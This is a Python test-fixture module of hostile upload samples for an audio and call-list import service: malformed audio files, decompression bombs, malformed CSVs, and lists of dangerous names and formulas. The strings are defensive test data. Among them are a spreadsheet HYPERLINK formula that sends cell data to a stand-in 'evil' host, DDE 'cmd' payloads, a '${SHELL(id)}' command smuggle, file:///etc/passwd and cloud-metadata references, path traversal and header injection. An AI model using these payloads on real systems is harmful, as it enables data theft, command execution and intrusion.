"""Hostile files as data: what it is, how it says it came, its bytes, and what may become of it. Each is of a class."""

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from enum import StrEnum
from typing import Final

#: The number of the one good row that a list has, where a file is a list with something hostile in it.
GOOD: Final = "+15550100012"


class Outcome(StrEnum):
    """What may become of a file."""

    #: It is no file of its kind: nothing of it is taken.
    REFUSED = "REFUSED"
    #: It is one, and what is hostile in it is told of and left out; its good rows are there.
    GOOD_ROWS = "GOOD_ROWS"
    #: It is one, and what is hostile in it does nothing until it is dialled, and then it is denied.
    ALL_ROWS = "ALL_ROWS"
    #: It is one, and means nothing bad: it is taken as it is.
    TAKEN = "TAKEN"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One sample of a class."""

    kind: str
    content: bytes
    outcome: Outcome = Outcome.REFUSED
    content_type: str = "text/csv"

    def __str__(self) -> str:
        return self.kind


def _wave(*, channels: int = 1, rate: int = 8_000, bits: int = 16, code: int = 1, data: bytes = bytes(16_000)) -> bytes:
    block = channels * bits // 8 % 2**16
    form = struct.pack("<HHIIHH", code, channels, rate, rate * block % 2**32, block, bits)
    body = b"WAVEfmt " + struct.pack("<I", len(form)) + form + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _archive(name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return made.getvalue()


def _lying(*, samples: int) -> bytes:
    """A wave file whose header promises so many bytes, and has a second of them."""
    sound = bytearray(_wave())
    struct.pack_into("<I", sound, 4, 36 + samples)
    struct.pack_into("<I", sound, 40, samples)
    return bytes(sound)


def _flac_of_hours() -> bytes:
    """A stream whose head says: 2**36 - 1 samples at 1 Hz, and has none."""
    info = (
        struct.pack(">HH", 4096, 4096)
        + bytes(6)
        + ((1 << 44) | (1 << 41) | (15 << 36) | (2**36 - 1)).to_bytes(8, "big")
    )
    return b"fLaC" + b"\x80" + len(info + bytes(16)).to_bytes(3, "big") + info + bytes(16)


def _row(text: str) -> bytes:
    return f"number,name\r\n{text}\r\n{GOOD},good\r\n".encode()


#: Sound files, each announced as `audio/wav`.
SOUNDS: Final = tuple(
    HostileFile(kind, content, content_type="audio/wav")
    for kind, content in (
        ("one byte", b"R"),
        ("text", b"this is not a sound, whatever its name says" * 50),
        ("a page", b"<!doctype html><script>alert(1)</script>" * 50),
        ("a program", b"\x7fELF" + bytes(5000)),
        ("a drawing", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'),
        ("a playlist that points elsewhere", b"#EXTM3U\nfile:///etc/passwd\nhttp://169.254.169.254/\n"),
        ("a list of parts", b"ffconcat version 1.0\nfile '/etc/passwd'\n"),
        ("an archive that unpacks to much", _archive("a.wav", bytes(20_000_000))),
        ("a packed sound", gzip.compress(_wave())),
        ("packed zeros", zlib.compress(bytes(20_000_000))),
        ("a header and no more", _wave()[:20]),
        ("a header without samples", _wave(data=b"")),
        ("a header that lies about everything", _lying(samples=2**32 - 64)[:44]),
        ("no channels", _wave(channels=0)),
        ("very many channels", _wave(channels=65_535)),
        ("no rate", _wave(rate=0)),
        ("a rate that cannot be", _wave(rate=2**31)),
        ("bits that cannot be", _wave(bits=255)),
        ("a format nobody knows", _wave(code=0x4242)),
        ("hours in a few bytes", _flac_of_hours()),
        ("a moment", _wave(data=bytes(100))),
        ("a page within a page of an ogg", b"OggS" + bytes(23) + b"\xff" + b"\xff" * 255 + bytes(3000)),
        ("an mp3 of nothing but headers", b"\xff\xfb\x90\x00" * 2000),
        ("a tag without end", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(2000)),
        ("a chunk that is longer than all files", b"RIFF\xff\xff\xff\xffWAVELIST\xff\xff\xff\xff" + bytes(2000)),
    )
)
#: A file is longer than its header says, or shorter: what is there counts.
HONEST_ENOUGH: Final = HostileFile(
    "a header that promises more", _lying(samples=2**31), outcome=Outcome.TAKEN, content_type="audio/wav"
)

#: Lists, each announced as `text/csv`.
LISTS: Final = (
    HostileFile("one byte", b"\x00"),
    HostileFile("nothing but a mark", b"\xef\xbb\xbf"),
    HostileFile("nothing but line ends", b"\r\n\r\r\n\n" * 100),
    HostileFile("no column of numbers", b"name,age\nAda,36\n"),
    HostileFile("a program", b"\x7fELF" + bytes(range(256)) * 40),
    HostileFile("an archive that unpacks to much", _archive("a.csv", bytes(20_000_000))),
    HostileFile("a packed list", gzip.compress(_row(GOOD))),
    HostileFile("a sound", _wave()),
    HostileFile("a page", b"<!doctype html><table><tr><td>+15550100012</td></tr></table>"),
    HostileFile("a million columns", b"number" + b",x" * 1_000_000 + b"\n"),
    HostileFile("a heading without end", b"number" * 100_000),
    HostileFile("the same heading twice", b"number,number\n+15550100012,+15550100013\n", Outcome.ALL_ROWS),
    HostileFile("a quote that is never closed", _row('"+15550100013'), Outcome.GOOD_ROWS),
    HostileFile("a quote in the middle", _row('+1555"01"00013,"a"b'), Outcome.GOOD_ROWS),
    HostileFile("a million columns in a row", _row("+15550100013" + ",x" * 200_000), Outcome.GOOD_ROWS),
    HostileFile("a cell of a megabyte", _row("+15550100013," + "x" * 1_000_000), Outcome.GOOD_ROWS),
    HostileFile("a mark before the heading", b"\xef\xbb\xbf" + _row("12"), Outcome.GOOD_ROWS),
    HostileFile("UTF-16 with a mark", _row("12").decode().encode("utf-16"), Outcome.GOOD_ROWS),
    HostileFile("UTF-16 without one", _row("12").decode().encode("utf-16-le"), Outcome.GOOD_ROWS),
    HostileFile("UTF-32", _row("12").decode().encode("utf-32"), Outcome.GOOD_ROWS),
    HostileFile("bytes of no encoding", _row("12").replace(b"good", b"g\xff\xfe\x80d"), Outcome.GOOD_ROWS),
    HostileFile("lone carriage returns", _row("12").replace(b"\r\n", b"\r"), Outcome.GOOD_ROWS),
    HostileFile("zeros in cells", _row("+1555010\x000013,a\x00b"), Outcome.GOOD_ROWS),
    HostileFile("dial strings", _row('"300&PJSIP/19005550123@trunk",x'), Outcome.GOOD_ROWS),
    HostileFile("SIP addresses", _row("sip:+15550100013@evil;tgrp=x,x"), Outcome.GOOD_ROWS),
    HostileFile("variables", _row("${SHELL(id)},$[1+1]"), Outcome.GOOD_ROWS),
    HostileFile("other scripts' digits", _row("\uff0b\uff11\uff15\uff15\uff15,x"), Outcome.GOOD_ROWS),
    HostileFile("premium numbers", _row("+19005550123,x"), Outcome.ALL_ROWS),
    HostileFile("markup", _row("<script>alert(1)</script>,x"), Outcome.GOOD_ROWS),
    HostileFile("line ends within cells", _row('"+15550100013\r\nX-Header: y",x'), Outcome.GOOD_ROWS),
)

#: Texts that a spreadsheet would calculate, and where they hide.
FORMULAS: Final = (
    '=HYPERLINK("http://evil/?x="&A1)',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
    "=1+1;=2+2",
    "%0A=1+1",
)
#: Names that lead elsewhere, of objects in the account's folder and of files.
NAMES: Final = (
    "../../other/imports/x.csv",
    "..\\..\\x.csv",
    "/etc/passwd",
    "a/../b.csv",
    "a/./b.csv",
    "a//b.csv",
    "%2e%2e/x.csv",
    "x.csv\x00.wav",
    "x\r\nX-Header: y",
    ".",
    "..",
    "",
    "~root/x",
    "C:\\x",
    "file:///etc/passwd",
    "a" * 10_000,
    "\u202excod.csv",
)
